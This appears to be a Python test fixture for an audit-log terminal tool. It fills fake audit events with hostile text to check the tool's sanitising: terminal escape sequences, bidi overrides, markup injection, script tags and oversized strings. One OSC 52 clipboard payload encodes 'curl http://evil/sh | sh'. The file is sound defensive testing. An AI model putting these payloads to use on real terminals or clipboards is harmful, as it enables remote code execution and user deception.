"""A small audit trail whose attacker-controlled fields hold hostile text, in the real API item shape.

Shared by the hostile-content suites (headless commands here, the TUI in tests/tui/test_hostile_panes.py).
Every field an actor chooses carries markup, terminal escape sequences, bidi overrides, NUL, or a
100 kB string; the events still make every analysis fire (a key seen from a new country that deletes
things, MCP tool calls, a role-grant burst), so the hostile text reaches flags, tables and alerts, not
just the raw event list.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

from ddaudit_tui.timeutil import iso, parse_instant

S = 1000
M = 60 * S
H = 60 * M
D = 24 * H
T0 = parse_instant("2026-07-01T00:00:00Z")
END = T0 + 3 * D

KEY = "7c1e2f3a-4b5c-4d6e-8f90-a1b2c3d4e5f6"  # the investigated key (a valid id: the command refuses others)

# -- the hostile pieces --------------------------------------------------------------------------------

CLICK = "[@click=app.quit]QUIT[/]"  # first in every value, so even a narrow cell shows it (literally)
MARKUP = "[bold]B[/bold] [/ [/] [link=https://evil.example]L[/link] [red on red]hidden[/]"
CSI = "\x1b[2J\x1b[31mRED\x1b[0m"
OSC52 = "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC9zaCB8IHNo\x07"  # clipboard write: "curl http://evil/sh | sh"
OSC8 = "\x1b]8;;https://evil.example\x1b\\click-me\x1b]8;;\x1b\\"
C1 = "\x9b31m\x9d0;title\x9c\x85"
BIDI = "\u202egpj.exe \u2066iso\u2069 \u200fx"
HTML_BITS = "<script>alert(1)</script> &amp; \"q\" 'a'"
MD_BITS = "| pipe | cell\nnew line `tick` **b**"
NUL = "nul\x00byte\x07bel"


def hostile(tag: str) -> str:
    """One field's hostile value; `tag` keeps it recognisable (and different from the other fields)."""
    return f"{CLICK} {tag} {MARKUP} {CSI} {OSC52} {OSC8} {C1} {BIDI} {HTML_BITS} {MD_BITS} {NUL}"


# A 100 kB value, with escape sequences in the middle and at the end (past any truncation point).
LONG = "L" * 50_000 + "\x1b]52;c;bG9uZw==\x07" + "M" * 50_000 + "\x1b[2J" + "\u202e" + "END"


def nested(depth: int = 200) -> dict[str, Any]:
    value: dict[str, Any] = {"leaf": hostile("deep")}
    for i in range(depth):
        value = {f"l{i}": value}
    return value


USER = hostile("user@evil.example")
USER_NAME = hostile("User Name")
ASSET_NAME = hostile("asset-name")
ASSET_ID = hostile("asset-id")
UA = hostile("UA")
MESSAGE = hostile("message")
TOOL = hostile("tool")
TOOL_ARG = hostile("tool-arg")
COUNTRY = hostile("Country")
CITY = hostile("City")
AS_NAME = hostile("AS-Name")
EVT_NAME = hostile("Evt Name")
BAD_KEY_ID = hostile("key-id")
KEY_NAME = hostile("key-name")

# What a terminal must never receive from the data: C0 controls except tab/newline, DEL, C1 controls,
# bidi embeddings/overrides/isolates and the zero-width/format characters `safetext.clean` removes.
FORBIDDEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\ufff9-\ufffb\u2028\u2029]"
)


def forbidden_chars(text: str) -> list[str]:
    """The forbidden characters in `text` (as repr strings, for readable assertion messages)."""
    return sorted({repr(m.group()) for m in FORBIDDEN.finditer(text)})


_ESCAPED_PIPE = re.compile(r"\\\|")
_MD_SEPARATOR = re.compile(r"^\|(\s*:?-+:?\s*\|)+\s*$")


def assert_markdown_tables_intact(md: str) -> int:
    """Every Markdown table keeps its shape: each row has the header's cell count (event text cannot
    add a `|`), and the table is not cut by a newline from the data (the line after it is blank or the
    end of the document, never a stray continuation). Returns the number of tables checked."""
    lines = md.split("\n")
    tables = 0
    for i, line in enumerate(lines):
        if not _MD_SEPARATOR.match(line) or i == 0:
            continue
        tables += 1
        cells = _ESCAPED_PIPE.sub("", lines[i - 1]).count("|")
        assert cells == _ESCAPED_PIPE.sub("", line).count("|"), lines[i - 1][:200]
        j = i + 1
        while j < len(lines) and lines[j].startswith("|"):
            row = lines[j]
            assert row.rstrip().endswith("|"), row[:200]
            assert _ESCAPED_PIPE.sub("", row).count("|") == cells, row[:200]
            j += 1
        assert j == len(lines) or lines[j].strip() == "", f"table cut by {lines[j][:120]!r}"
    return tables


# -- items --------------------------------------------------------------------------------------------

_n = iter(range(10**9))


def item(
    ts: int, inner: dict[str, Any], message: str = MESSAGE, tags: list[str] | None = None
) -> dict[str, Any]:
    inner.setdefault("timestamp", iso(ts))
    return {
        "id": f"AQAAAHostile{next(_n):06d}",
        "type": "audit",
        "attributes": {
            "attributes": inner,
            "message": message,
            "service": "audit",
            "tags": tags or ["source:audit"],
            "timestamp": iso(ts),
        },
    }


def network(ip: str = "203.0.113.66") -> dict[str, Any]:
    return {
        "client": {
            "ip": ip,
            "geoip": {
                "country": {"name": COUNTRY, "iso_code": "RO"},
                "city": {"name": CITY},
                "as": {"number": "AS64499", "name": AS_NAME, "domain": "evil.example", "type": "hosting"},
                "ipAddress": ip,
            },
        }
    }


def key_request(ts: int, method: str, path: str, code: int = 200, key: str = KEY) -> dict[str, Any]:
    return item(
        ts,
        {
            "evt": {"name": "Request", "actor": {"type": "USER"}},
            "metadata": {"api_key": {"id": key}},
            "auth_method": "API_AND_APP_KEY",
            "usr": {"email": USER, "name": USER_NAME, "id": USER},
            "action": "accessed",
            "http": {
                "status_code": code,
                "method": method,
                "useragent": UA,
                "url_details": {"path": path, "host": "api.datadoghq.com"},
            },
            "network": network(),
            "status": "info",
        },
    )


def key_change(ts: int, evt: str, asset_type: str, action: str, name: str, asset_id: str) -> dict[str, Any]:
    return item(
        ts,
        {
            "evt": {"name": evt, "actor": {"type": "USER"}},
            "metadata": {"api_key": {"id": KEY}},
            "auth_method": "API_AND_APP_KEY",
            "usr": {"email": USER, "name": USER_NAME, "id": USER},
            "action": action,
            "asset": {"type": asset_type, "name": name, "id": asset_id, "new_value": nested()},
            "http": {"status_code": 200, "method": "DELETE", "useragent": UA},
            "network": network(),
            "status": "info",
        },
    )


def mcp_call(ts: int, i: int) -> dict[str, Any]:
    return item(
        ts,
        {
            "evt": {"name": "MCP Server", "actor": {"type": "USER"}},
            "metadata": {
                "oauth_client": {"name": hostile("oauth"), "uuid": "0000"},
                "tool": {
                    "name": TOOL if i % 2 else "delete_monitor",
                    "arguments": {"monitor_id": i, "query": TOOL_ARG, "long": LONG},
                },
            },
            "usr": {"email": USER, "name": USER_NAME, "id": USER},
            "action": "executed",
            "asset": {"type": "mcp"},
            "http": {
                "status_code": 200,
                "method": "POST",
                "url_details": {"path": "/api/unstable/mcp-server/mcp"},
            },
            "network": network("198.51.100.9"),
            "status": "info",
        },
        message=f"{USER} called tool {TOOL}",
        tags=["is_mcp_call:true", "source:audit"],
    )


def role_grant(ts: int, i: int) -> dict[str, Any]:
    return item(
        ts,
        {
            "evt": {"name": "Access Management", "actor": {"type": "USER"}},
            "usr": {"email": USER, "name": USER_NAME, "id": USER},
            "action": "modified",
            "asset": {"type": "role", "name": ASSET_NAME, "id": f"role-{i}"},
            "http": {"status_code": 200, "method": "PATCH", "useragent": UA},
            "network": network(),
            "status": "info",
        },
    )


def hostile_items() -> list[dict[str, Any]]:
    items: list[dict[str, Any]] = []
    # A plain baseline so the key has a "usual" origin before the hostile one.
    for d in range(2):
        items.append(
            item(
                T0 + d * H,
                {
                    "evt": {"name": "Request", "actor": {"type": "USER"}},
                    "metadata": {"api_key": {"id": KEY}},
                    "usr": {"email": "alice@example.com", "id": "alice@example.com"},
                    "action": "accessed",
                    "http": {"status_code": 200, "method": "GET", "url_details": {"path": "/api/v1/monitor"}},
                    "network": {"client": {"ip": "192.0.2.1"}},
                },
                message="plain",
            )
        )
    # The key's creation: its name (what the API Keys endpoint reports) and creator are hostile too.
    items.append(
        item(
            T0 + 2 * H,
            {
                "evt": {"name": "Authentication", "actor": {"type": "USER"}},
                "usr": {"email": USER, "name": USER_NAME, "id": USER, "uuid": "0e-evil-uuid"},
                "action": "created",
                "asset": {"type": "api_key", "id": KEY, "name": KEY_NAME},
                "network": network(),
                "status": "info",
            },
        )
    )
    t = T0 + D
    items.append(key_request(t, "GET", "/api/v2/users"))
    items.append(key_request(t + M, "POST", "/api/v2/api_keys", 201))
    items.append(key_change(t + 2 * M, "Monitor", "monitor", "deleted", ASSET_NAME, ASSET_ID))
    items.append(key_change(t + 3 * M, "Dashboard", "dashboard", "deleted", LONG, "dash-1"))
    items.append(key_change(t + 4 * M, EVT_NAME, "api_key", "created", ASSET_NAME, "k-2"))
    # An event whose api key id itself is hostile (it shows in facets and the AI/explore panes).
    items.append(key_request(t + 5 * M, "GET", "/api/v1/validate", key=BAD_KEY_ID))
    # A message of 100 kB.
    items.append(
        item(
            t + 6 * M,
            {"evt": {"name": "Request"}, "usr": {"email": USER}, "action": "accessed"},
            message=LONG,
        )
    )
    # MCP tool calls by the hostile user.
    for i in range(8):
        items.append(mcp_call(t + 10 * M + i * 20 * S, i))
    # A role-grant burst at the very end (the watch's --once window ends at the last event).
    for i in range(4):
        items.append(role_grant(END - 10 * M + i * M, i))
    for n, it in enumerate(items):  # the same ids on every call
        it["id"] = f"AQAAAHostile{n:06d}"
    return items


def write_items(path: Path, items: list[dict[str, Any]] | None = None) -> Path:
    """The items as one API page (`{"data": [...]}`), JSON-escaped like the real API writes it."""
    path.write_text(json.dumps({"data": items if items is not None else hostile_items()}), encoding="utf-8")
    return path


def write_items_raw_unicode(path: Path, items: list[dict[str, Any]] | None = None) -> Path:
    """Same, but non-ASCII (C1, bidi) written as raw UTF-8, as `pup -o json` or a hand-made file may."""
    text = json.dumps({"data": items if items is not None else hostile_items()}, ensure_ascii=False)
    path.write_text(text, encoding="utf-8")
    return path
